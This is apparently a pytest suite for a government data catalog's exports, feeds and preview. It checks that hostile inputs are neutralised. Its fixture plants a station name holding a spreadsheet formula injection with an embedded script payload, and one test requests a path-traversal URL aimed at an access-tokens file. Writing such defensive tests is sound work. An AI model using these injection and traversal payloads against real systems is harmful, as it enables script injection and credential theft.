"""Downloads people open, feeds and the preview, over HTTP against releases the real pipeline made.

One store per module, built from a small SQLite unit whose first station has a hostile name (a
spreadsheet formula holding HTML, in NFD): the open ``air_quality_hourly`` (v1, v2, and a v3 then
withdrawn) and a ``restricted`` copy granted to ``agency_a`` only.
"""

from __future__ import annotations

import datetime as dt
import hashlib
import io
import json
import logging
import math
import unicodedata
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import sqlalchemy as sa
import yaml
from fastapi.testclient import TestClient

from datashare.access import Tokens, load_registry
from datashare.access import log as accesslog
from datashare.catalog.app import create_app
from datashare.pipeline.stages import run_dataset
from datashare.settings import Settings
from datashare.source.connections import connection_env_value
from datashare.store import Release, ReleaseStore
from datashare.store.withdrawals import withdraw
from units import monitoring

REPO = Path(__file__).resolve().parents[2]
OPEN, RESTRICTED = "air_quality_hourly", "air_quality_restricted"
HOSTILE_NAME = unicodedata.normalize(
    "NFD", '=HYPERLINK("http://x.invalid/?"&A1,"<script>alert(1)</script> Trạm Hà Nội")'
)
RECIPIENTS = """
recipients:
  - code: agency_a
    name: {vi: Sở A, en: Department A}
    contact: {name: Desk A, email: a@example.gov.vn}
  - code: agency_b
    name: {vi: Sở B, en: Department B}
    contact: {name: Desk B, email: b@example.gov.vn}
"""


@dataclass
class Env:
    settings: Settings
    store: ReleaseStore
    tokens: dict[str, str | None]


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Env]:
    tmp = tmp_path_factory.mktemp("exports")
    home = tmp / "home"
    datasets = home / "dags" / "datasets"
    datasets.mkdir(parents=True)
    (datasets / f"{OPEN}.yaml").write_bytes((REPO / "dags" / "datasets" / f"{OPEN}.yaml").read_bytes())
    spec = yaml.safe_load((datasets / f"{OPEN}.yaml").read_text(encoding="utf-8"))
    spec.update(
        id=RESTRICTED,
        suite=OPEN,
        title={"vi": "Không khí (dùng riêng)", "en": "Air (restricted)"},
        classification={"sharing": "restricted", "importance": "core"},
        recipients=["agency_a"],
    )
    (datasets / f"{RESTRICTED}.yaml").write_text(yaml.safe_dump(spec, allow_unicode=True), encoding="utf-8")
    (home / "expectations").mkdir()
    (home / "expectations" / f"{OPEN}.json").write_bytes((REPO / "expectations" / f"{OPEN}.json").read_bytes())
    (home / "config").mkdir()
    (home / "config" / "recipients.yaml").write_text(RECIPIENTS, encoding="utf-8")
    unit = f"sqlite:///{tmp / 'unit.sqlite'}"
    monitoring.generate(unit, stations=2, days=1)
    engine = sa.create_engine(unit)
    with engine.begin() as conn:
        first = conn.execute(sa.text("SELECT min(station_code) FROM stations")).scalar_one()
        conn.execute(sa.text("UPDATE stations SET name = :n WHERE station_code = :c"), {"n": HOSTILE_NAME, "c": first})
    engine.dispose()
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("DATASHARE_HOME", str(home))
        mp.setenv("DATASHARE_RELEASE_ROOT", str(tmp / "releases"))
        mp.setenv("AIRFLOW_CONN_DATASHARE_SHARE", connection_env_value(f"sqlite:///{tmp / 'share.sqlite'}"))
        mp.setenv("AIRFLOW_CONN_MONRE_MONITORING", connection_env_value(unit))
        assert run_dataset(OPEN)["version"] == 1
        assert run_dataset(RESTRICTED)["version"] == 1
        monitoring.append_day(unit)
        assert run_dataset(OPEN)["version"] == 2
        monitoring.append_day(unit)
        assert run_dataset(OPEN)["version"] == 3
        settings = Settings.from_env()
    store = ReleaseStore.open(settings.release_uri)
    withdraw(store, OPEN, 3, "faulty sensor")
    registry = load_registry(settings.recipients_file)
    tokens = Tokens(store.backend)
    yield Env(
        settings,
        store,
        {
            "anonymous": None,
            "gov_a": tokens.issue(registry.get("agency_a")),
            "gov_b": tokens.issue(registry.get("agency_b")),
        },
    )


@pytest.fixture
def client(env: Env) -> TestClient:
    return TestClient(create_app(env.settings))


def _auth(env: Env, who: str) -> dict[str, str]:
    token = env.tokens[who]
    return {"Authorization": f"Bearer {token}"} if token else {}


def _downloads(env: Env, client: TestClient, backend: object = None) -> list[dict]:
    """The access log's download entries, after the client's catalog flushed what it buffered."""
    client.app.state.catalog.access_log.flush()
    today = dt.datetime.now(dt.UTC).date()
    return list(accesslog.read(backend or env.store.backend, today - dt.timedelta(days=1), today))


def _parquet(env: Env, release: Release) -> pa.Table:
    root = Path(env.settings.release_uri)
    return pa.concat_tables([pq.read_table(root / release.prefix / f["path"]) for f in release.files])


def _fields(release: Release) -> dict[str, str]:
    return {f["name"]: f["type"] for f in release.manifest["resources"][0]["schema"]["fields"]}


def _escaped(value: Any) -> Any:
    return "'" + value if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r") else value


def _plain(value: Any) -> Any:
    """A pandas cell as a plain Python value: missing values as None, timestamps as datetime."""
    import pandas as pd

    if value is None or value is pd.NA or (isinstance(value, float) and math.isnan(value)) or value is pd.NaT:
        return None
    if isinstance(value, pd.Timestamp):
        return value.to_pydatetime()
    if hasattr(value, "item"):
        return value.item()
    return value


# -- CSV ----------------------------------------------------------------------------------------------


def test_csv_opened_with_pandas_equals_the_release(env: Env, client: TestClient) -> None:
    import pandas as pd

    release = env.store.release(OPEN, 2)
    url = f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.csv"
    before = len(_downloads(env, client))
    response = client.get(url)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="{OPEN}-v2.csv"'
    assert response.headers["accept-ranges"] == "bytes"
    assert response.headers["etag"] == f'"{hashlib.sha256(response.content).hexdigest()}"'
    assert f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2-provenance.txt>" in response.headers["link"]
    assert response.content.startswith(b"\xef\xbb\xbf")
    entry = _downloads(env, client)[-1]
    assert len(_downloads(env, client)) == before + 1 and entry["file"] == f"exports/{OPEN}-v2.csv"
    assert entry["recipient"] == "anonymous" and entry["version"] == 2

    parquet = _parquet(env, release)
    plain = pd.read_csv(io.BytesIO(response.content))  # no options: it loads, names and rows intact
    assert list(plain.columns) == parquet.column_names and len(plain) == parquet.num_rows == release.rows

    # Typed as the release's Table Schema says, it equals the Parquet files value for value.
    kinds = _fields(release)
    dtypes = {"string": "string", "integer": "Int64", "number": "float64", "boolean": "boolean"}
    frame = pd.read_csv(
        io.BytesIO(response.content),
        dtype={n: dtypes[k] for n, k in kinds.items() if k in dtypes},
        parse_dates=[n for n, k in kinds.items() if k in ("date", "datetime")],
        keep_default_na=False,
        na_values=[""],
    )
    escaped = 0
    for name in parquet.column_names:
        expected = parquet[name].to_pylist()
        got = [_plain(v) for v in frame[name].tolist()]
        if kinds[name] == "string":
            escaped += sum(1 for v in expected if _escaped(v) != v)
            expected = [_escaped(v) for v in expected]
            assert all(v is None or unicodedata.is_normalized("NFC", v) for v in got), name
        assert got == expected, name
    hostile_rows = sum(1 for v in parquet["station_name"].to_pylist() if v and v.startswith("="))
    assert hostile_rows > 0 and escaped == hostile_rows
    assert any(v is None for v in parquet["pm25"].to_pylist())  # nulls were there to compare

    note = client.get(f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2-provenance.txt")
    assert note.status_code == 200 and note.headers["content-type"] == "text/plain; charset=utf-8"
    text = note.text
    assert "Hourly automatic air-quality observations" in text and "Quan trắc chất lượng không khí" in text
    assert "v2" in text and release.record["manifest_sha256"] in text
    for f in release.files:
        assert f"{f['path']}  {f['rows']}  {f['bytes']}  {f['sha256']}" in text
    assert f"Column station_name: {hostile_rows} values starting with =" in text


def test_xlsx_opened_with_openpyxl_equals_the_release(env: Env, client: TestClient) -> None:
    import openpyxl

    release = env.store.release(OPEN, 2)
    response = client.get(f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.xlsx")
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    assert book.sheetnames == ["Dữ liệu - Data", "Nguồn gốc - Provenance"]
    rows = list(book["Dữ liệu - Data"].iter_rows(values_only=True))
    parquet = _parquet(env, release)
    assert rows[0] == tuple(parquet.column_names) and len(rows) == parquet.num_rows + 1
    kinds = _fields(release)
    for col, name in enumerate(parquet.column_names):
        got = [r[col] for r in rows[1:]]
        expected = parquet[name].to_pylist()
        if kinds[name] == "number":
            assert all((g is None) == (e is None) for g, e in zip(got, expected, strict=True)), name
            assert [g for g in got if g is not None] == pytest.approx([e for e in expected if e is not None], rel=1e-15)
        else:
            assert got == expected, name  # text exact (formulas stay text), integers, hours, nulls
    sheet = book["Nguồn gốc - Provenance"]
    notes = [" ".join(str(c) for c in r if c is not None) for r in sheet.iter_rows(values_only=True)]
    joined = "\n".join(notes)
    assert release.record["manifest_sha256"] in joined and all(f["sha256"] in joined for f in release.files)
    assert "Không giá trị nào bị thay đổi. / No value was changed." in joined


def test_zip_holds_the_release_files_unchanged(env: Env, client: TestClient) -> None:
    release = env.store.release(OPEN, 2)
    response = client.get(f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.zip")
    assert response.status_code == 200 and response.headers["content-type"] == "application/zip"
    top = f"{OPEN}-v2"
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        names = archive.namelist()
        assert names == [f"{top}/{f['path']}" for f in release.files] + [
            f"{top}/datapackage.json",
            f"{top}/validation/report.html",
            f"{top}/validation/result.json",
        ]
        for f in release.files:
            assert hashlib.sha256(archive.read(f"{top}/{f['path']}")).hexdigest() == f["sha256"]
        manifest = archive.read(f"{top}/datapackage.json")
        assert hashlib.sha256(manifest).hexdigest() == release.record["manifest_sha256"]
        assert json.loads(manifest)["datashare"]["files"] == release.files
        assert b"</html>" in archive.read(f"{top}/validation/report.html")
    again = client.get(f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.zip")
    assert again.content == response.content  # served from the cache, same bytes and tag
    assert again.headers["etag"] == response.headers["etag"]
    cached = [k for k in env.store.backend.list("_exports") if k.endswith(".zip")]
    assert cached == [f"_exports/{OPEN}/v2/g1/{OPEN}-v2.zip"]
    assert not any("_exports" in k for k in env.store.backend.list(f"{OPEN}/v2"))  # the release folder is untouched
    assert env.store.verify(OPEN, 2) == []


# -- HEAD, Range, conditional requests -----------------------------------------------------------------


class HttpRangeFile(io.RawIOBase):
    """A file read over HTTP the way remote Parquet readers do: HEAD for the size, then one range per read."""

    def __init__(self, client: TestClient, url: str) -> None:
        self.client, self.url, self.position = client, url, 0
        head = client.head(url)
        assert head.status_code == 200 and head.headers["accept-ranges"] == "bytes" and head.content == b""
        self.size = int(head.headers["content-length"])
        self.etag = head.headers["etag"]
        self.fetched = 0

    def readable(self) -> bool:
        return True

    def seekable(self) -> bool:
        return True

    def seek(self, offset: int, whence: int = 0) -> int:
        self.position = {0: offset, 1: self.position + offset, 2: self.size + offset}[whence]
        return self.position

    def tell(self) -> int:
        return self.position

    def readinto(self, buffer: Any) -> int:
        if self.position >= self.size or len(buffer) == 0:
            return 0
        end = min(self.size, self.position + len(buffer)) - 1
        answer = self.client.get(self.url, headers={"Range": f"bytes={self.position}-{end}", "If-Range": self.etag})
        assert answer.status_code == 206, answer.status_code
        assert answer.headers["content-range"] == f"bytes {self.position}-{end}/{self.size}"
        data = answer.content
        buffer[: len(data)] = data
        self.position += len(data)
        self.fetched += len(data)
        return len(data)


def test_parquet_read_remotely_through_head_and_ranges(env: Env, client: TestClient) -> None:
    release = env.store.release(OPEN, 2)
    part = release.files[0]
    url = f"/datasets/{OPEN}/v/2/files/{part['path']}"
    before = len(_downloads(env, client))
    remote = HttpRangeFile(client, url)
    assert remote.size == part["bytes"] and remote.etag == f'"{part["sha256"]}"'
    assert len(_downloads(env, client)) == before  # a HEAD sends no data and is not recorded
    metadata = pq.read_metadata(pa.PythonFile(remote, mode="r"))
    assert metadata.num_rows == part["rows"] and 0 < remote.fetched <= part["bytes"]  # every read a 206
    table = pq.read_table(pa.PythonFile(remote, mode="r"))
    root = Path(env.settings.release_uri)
    assert table.equals(pq.read_table(root / release.prefix / part["path"]))
    assert len(_downloads(env, client)) > before  # each ranged GET is a download, recorded


@pytest.mark.parametrize("kind", ["parquet", "csv"])
def test_head_range_and_conditions(env: Env, client: TestClient, kind: str) -> None:
    release = env.store.release(OPEN, 2)
    url = (
        f"/datasets/{OPEN}/v/2/files/{release.files[0]['path']}"
        if kind == "parquet"
        else f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.csv"
    )
    whole = client.get(url)
    size, etag = len(whole.content), whole.headers["etag"]
    head = client.head(url)
    assert head.status_code == 200 and head.content == b""
    assert head.headers["content-length"] == str(size) and head.headers["etag"] == etag
    assert head.headers["content-type"] == whole.headers["content-type"]

    first = client.get(url, headers={"Range": "bytes=0-9"})
    assert first.status_code == 206 and first.content == whole.content[:10]
    assert first.headers["content-range"] == f"bytes 0-9/{size}" and first.headers["content-length"] == "10"
    tail = client.get(url, headers={"Range": "bytes=-8"})
    assert tail.status_code == 206 and tail.content == whole.content[-8:]
    if kind == "parquet":
        assert tail.content.endswith(b"PAR1")
    head_range = client.head(url, headers={"Range": "bytes=5-"})
    assert head_range.status_code == 206 and head_range.headers["content-length"] == str(size - 5)
    past = client.get(url, headers={"Range": f"bytes={size}-"})
    assert past.status_code == 416 and past.headers["content-range"] == f"bytes */{size}"
    for ignored in ("bytes=0-1,4-5", "lines=0-3", "bytes=9-2"):
        answer = client.get(url, headers={"Range": ignored})
        assert answer.status_code == 200 and answer.content == whole.content, ignored
    stale = client.get(url, headers={"Range": "bytes=0-9", "If-Range": '"not-the-tag"'})
    assert stale.status_code == 200 and stale.content == whole.content
    assert client.get(url, headers={"If-None-Match": etag}).status_code == 304
    assert client.get(url, headers={"If-None-Match": '"other"'}).status_code == 200


# -- who may download ------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["csv", "xlsx", "zip", "provenance"])
def test_restricted_exports_only_to_the_granted_agency(env: Env, client: TestClient, name: str) -> None:
    filename = f"{RESTRICTED}-v1-provenance.txt" if name == "provenance" else f"{RESTRICTED}-v1.{name}"
    url = f"/datasets/{RESTRICTED}/v/1/exports/{filename}"
    unknown = f"/datasets/no_such_dataset/v/1/exports/{filename}"
    before = len(_downloads(env, client))
    for who in ("anonymous", "gov_b"):
        for method in ("GET", "HEAD"):
            refused = client.request(method, url, headers=_auth(env, who))
            assert refused.status_code == 404, (who, method)
        same = client.get(unknown, headers=_auth(env, who)).text.replace("no_such_dataset", RESTRICTED)
        assert client.get(url, headers=_auth(env, who)).text == same
    assert len(_downloads(env, client)) == before
    granted = client.get(url, headers=_auth(env, "gov_a"))
    assert granted.status_code == 200 and _downloads(env, client)[-1]["recipient"] == "agency_a"


@pytest.mark.parametrize(
    "path",
    [
        f"/datasets/{OPEN}/v/3/exports/{OPEN}-v3.csv",  # withdrawn
        f"/datasets/{OPEN}/v/2/exports/{OPEN}-v1.csv",  # another release's name
        f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.parquet",
        f"/datasets/{OPEN}/v/2/exports/..%2F..%2F_access%2Ftokens",
        f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.csv.json",  # the cache's own record
        f"/datasets/{OPEN}/v/9/exports/{OPEN}-v9.csv",
    ],
)
def test_export_names_come_from_our_list(env: Env, client: TestClient, path: str) -> None:
    before = len(_downloads(env, client))
    assert client.get(path).status_code == 404
    assert len(_downloads(env, client)) == before


def test_xlsx_over_the_row_limit_is_refused_in_both_languages(
    env: Env, client: TestClient, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    release = env.store.release(OPEN, 1)
    monkeypatch.setenv("DATASHARE_XLSX_MAX_ROWS", str(release.rows - 1))
    before = len(_downloads(env, client))
    with caplog.at_level(logging.WARNING, logger="datashare.catalog"):
        refused = client.get(f"/datasets/{OPEN}/v/1/exports/{OPEN}-v1.xlsx")
    assert refused.status_code == 409
    assert "vượt quá" in refused.text and "Download the CSV or Parquet files instead" in refused.text
    assert "Quá lớn cho Excel" in refused.text
    assert any("refused with 409" in r.getMessage() for r in caplog.records)
    assert len(_downloads(env, client)) == before
    assert not any(k.endswith(f"{OPEN}-v1.xlsx") for k in env.store.backend.list(f"_exports/{OPEN}"))
    api = client.get(f"/api/v1/datasets/{OPEN}/v/1").json()
    xlsx = next(e for e in api["exports"] if e["format"] == "xlsx")
    assert xlsx["available"] is False and "Excel" in xlsx["note"]
    page = client.get(f"/datasets/{OPEN}/v/1?lang=en").text
    assert f"{OPEN}-v1.xlsx" not in page and "more rows than an Excel sheet holds" in page
    assert client.get(f"/datasets/{OPEN}/v/1/exports/{OPEN}-v1.csv").status_code == 200  # CSV still offered
    monkeypatch.setenv("DATASHARE_XLSX_MAX_ROWS", str(release.rows))
    assert client.get(f"/datasets/{OPEN}/v/1/exports/{OPEN}-v1.xlsx").status_code == 200  # at the limit: made


def test_pages_and_api_link_every_format(env: Env, client: TestClient) -> None:
    page = client.get(f"/datasets/{OPEN}").text
    for filename in (f"{OPEN}-v2.csv", f"{OPEN}-v2.xlsx", f"{OPEN}-v2.zip", f"{OPEN}-v2-provenance.txt"):
        assert f'href="/datasets/{OPEN}/v/2/exports/{filename}"' in page
    assert "Cả phiên bản trong một tệp" in page and page.index('data-format="csv"') < page.index('a class="download"')
    release_page = client.get(f"/datasets/{OPEN}/v/1?lang=en").text
    assert "The whole release in one file" in release_page and f"{OPEN}-v1.zip" in release_page
    api = client.get(f"/api/v1/datasets/{OPEN}").json()
    assert [e["format"] for e in api["releases"][0]["exports"]] == ["csv", "xlsx", "zip", "provenance"]


# -- feeds -------------------------------------------------------------------------------------------------


def _feed(client: TestClient, url: str, headers: dict[str, str]) -> Any:
    import feedparser

    response = client.get(url, headers=headers)
    assert response.status_code == 200, response.text[:300]
    assert response.headers["content-type"] == "application/atom+xml; charset=utf-8"
    parsed = feedparser.parse(response.content)
    assert not parsed.bozo, parsed.get("bozo_exception")
    assert parsed.version == "atom10"
    return parsed


def test_catalog_feed_lists_what_the_caller_may_see(env: Env, client: TestClient) -> None:
    anonymous = _feed(client, "/feed.atom", {})
    feed = anonymous.feed
    assert feed.id.startswith("urn:uuid:") and feed.title and feed.updated
    assert "Danh mục dữ liệu" in feed.title and "Data catalog" in feed.title
    assert feed.author == "Bộ Nông nghiệp và Môi trường / Ministry of Agriculture and Environment"
    assert any(link.rel == "self" and link.href == "http://testserver/feed.atom" for link in feed.links)
    assert [e.link for e in anonymous.entries] == [f"http://testserver/datasets/{OPEN}/v/{v}" for v in (2, 1)]
    for entry in anonymous.entries:
        assert entry.id.startswith("urn:uuid:") and entry.updated and entry.published
        assert "Quan trắc chất lượng không khí" in entry.title and "Hourly automatic" in entry.title
        assert " dòng, kiểm tra: Đạt. / Release " in entry.summary
        enclosures = [link for link in entry.links if link.rel == "enclosure"]
        assert enclosures and all(link.type == "application/vnd.apache.parquet" for link in enclosures)
    v2 = env.store.release(OPEN, 2)
    assert anonymous.entries[0].updated == v2.record["committed_at"]
    assert [int(e.length) for e in anonymous.entries[0].enclosures] == [f["bytes"] for f in v2.files]
    assert RESTRICTED not in json.dumps(anonymous)
    granted = _feed(client, "/feed.atom", _auth(env, "gov_a"))
    listed = {e.link.rsplit("/datasets/", 1)[1] for e in granted.entries}
    assert listed == {f"{OPEN}/v/2", f"{OPEN}/v/1", f"{RESTRICTED}/v/1"}
    assert [e.id for e in granted.entries if OPEN in e.link] == [e.id for e in anonymous.entries]  # stable ids
    assert len(_feed(client, "/feed.atom", _auth(env, "gov_b")).entries) == 2


def test_dataset_feed_and_its_refusals(env: Env, client: TestClient) -> None:
    parsed = _feed(client, f"/datasets/{OPEN}/feed.atom", {})
    assert [e.link.rsplit("/", 1)[1] for e in parsed.entries] == ["2", "1"]  # withdrawn v3 is not listed
    assert f"/datasets/{OPEN}/v/3" not in client.get(f"/datasets/{OPEN}/feed.atom").text
    assert client.get(f"/datasets/{RESTRICTED}/feed.atom").status_code == 404
    assert client.get(f"/datasets/{RESTRICTED}/feed.atom", headers=_auth(env, "gov_b")).status_code == 404
    assert len(_feed(client, f"/datasets/{RESTRICTED}/feed.atom", _auth(env, "gov_a")).entries) == 1
    assert client.head(f"/datasets/{OPEN}/feed.atom").status_code == 200
    page = client.get(f"/datasets/{OPEN}").text
    assert f'<link rel="alternate" type="application/atom+xml" href="/datasets/{OPEN}/feed.atom"' in page


def test_feed_is_valid_atom(env: Env, client: TestClient) -> None:
    """RFC 4287's required elements, checked on the XML itself (feed readers forgive too much)."""
    import xml.etree.ElementTree as ET

    atom = "{http://www.w3.org/2005/Atom}"
    root = ET.fromstring(client.get("/feed.atom", headers=_auth(env, "gov_a")).content)
    assert root.tag == f"{atom}feed"
    for tag in ("id", "title", "updated", "author"):
        assert len(root.findall(f"{atom}{tag}")) == 1, tag
    entries = root.findall(f"{atom}entry")
    assert len(entries) == 3
    for entry in entries:
        for tag in ("id", "title", "updated", "summary"):
            assert len(entry.findall(f"{atom}{tag}")) == 1, tag
        assert [link for link in entry.findall(f"{atom}link") if link.get("rel") == "alternate"]
        dt.datetime.fromisoformat(entry.find(f"{atom}updated").text.replace("Z", "+00:00"))


# -- preview -----------------------------------------------------------------------------------------------


def test_open_dataset_page_previews_its_first_rows_escaped(env: Env, client: TestClient) -> None:
    import re

    release = env.store.release(OPEN, 2)
    page = client.get(f"/datasets/{OPEN}?lang=en").text
    assert '<h2 id="preview">Data preview</h2>' in page
    table = page[page.index('<table id="preview-table">') : page.index("</table>", page.index('id="preview-table"'))]
    rows = re.findall(r"<tr>(.*?)</tr>", table, flags=re.S)
    assert len(rows) == 1 + 20  # the heading and 20 rows
    assert "Monitoring station code<br><code>station_code</code>" in rows[0]
    first = pq.read_table(Path(env.settings.release_uri) / release.prefix / release.files[0]["path"]).slice(0, 20)
    cells = re.findall(r"<td[^>]*>(.*?)</td>", rows[1], flags=re.S)
    assert cells[0] == first["station_code"][0].as_py()
    assert "<script>" not in page and "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert unicodedata.normalize("NFC", "Trạm Hà Nội") in page
    assert 'role="region" aria-labelledby="preview" tabindex="0"' in page
    vietnamese = client.get(f"/datasets/{OPEN}?lang=vi").text
    assert "Xem trước dữ liệu" in vietnamese and "Mã trạm quan trắc<br><code>station_code</code>" in vietnamese
    restricted = client.get(f"/datasets/{RESTRICTED}", headers=_auth(env, "gov_a")).text
    assert 'id="preview"' not in restricted  # only open data is previewed


def test_s3_store_makes_exports_in_the_bucket_and_redirects(env: Env, client: TestClient, s3_server, s3_bucket) -> None:
    import urllib.request

    from datashare.store.s3 import S3Backend

    s3 = S3Backend(s3_bucket, "releases", endpoint_url=s3_server.endpoint_url)
    local = env.store.backend
    for key in local.list(""):
        if not key.startswith("_exports/"):  # the bucket makes its own
            s3.put_file(key, local.local_path(key))
    app = create_app(env.settings)
    app.state.catalog.store = ReleaseStore(s3)
    remote = TestClient(app)
    url = f"/datasets/{OPEN}/v/2/exports/{OPEN}-v2.csv"
    made_locally = client.get(url).content
    head = remote.head(url)
    assert head.status_code == 200 and head.headers["content-length"] == str(len(made_locally))
    assert head.headers["etag"] == f'"{hashlib.sha256(made_locally).hexdigest()}"'  # same bytes from either store
    response = remote.get(url, follow_redirects=False)
    assert response.status_code == 307 and "location" in response.headers
    with urllib.request.urlopen(response.headers["location"], timeout=10) as fetched:
        assert fetched.read() == made_locally
    assert s3.exists(f"_exports/{OPEN}/v2/g1/{OPEN}-v2.csv")
    restricted = f"/datasets/{RESTRICTED}/v/1/exports/{RESTRICTED}-v1.zip"
    refused = remote.get(restricted, follow_redirects=False)
    assert refused.status_code == 404 and "location" not in refused.headers
    granted = remote.get(restricted, headers=_auth(env, "gov_a"), follow_redirects=False)
    assert granted.status_code == 307
    served = _downloads(env, remote, s3)
    assert served[-1]["recipient"] == "agency_a" and served[-1]["file"] == f"exports/{RESTRICTED}-v1.zip"


def test_a_tampered_source_makes_no_export(env: Env, tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    import dataclasses
    import shutil

    copy = tmp_path / "releases"
    shutil.copytree(env.settings.release_uri, copy, ignore=shutil.ignore_patterns("_exports"))
    release = env.store.release(OPEN, 1)
    part = copy / release.prefix / release.files[0]["path"]
    data = bytearray(part.read_bytes())
    data[len(data) // 2] ^= 0x01
    part.write_bytes(bytes(data))
    client = TestClient(create_app(dataclasses.replace(env.settings, release_uri=str(copy))))
    tampered = ReleaseStore.open(str(copy)).backend
    before = len(_downloads(env, client, tampered))
    with caplog.at_level(logging.ERROR, logger="datashare.catalog"):
        answer = client.get(f"/datasets/{OPEN}/v/1/exports/{OPEN}-v1.csv")
    assert answer.status_code == 503 and "download the Parquet files instead" in answer.text
    assert "sha256" not in answer.text.lower() and str(copy) not in answer.text  # the reason is for operators
    assert any("does not match its SHA-256" in r.getMessage() for r in caplog.records)
    assert not list(copy.glob("_exports/**/*.csv"))
    assert len(_downloads(env, client, tampered)) == before  # nothing was served, so nothing is recorded
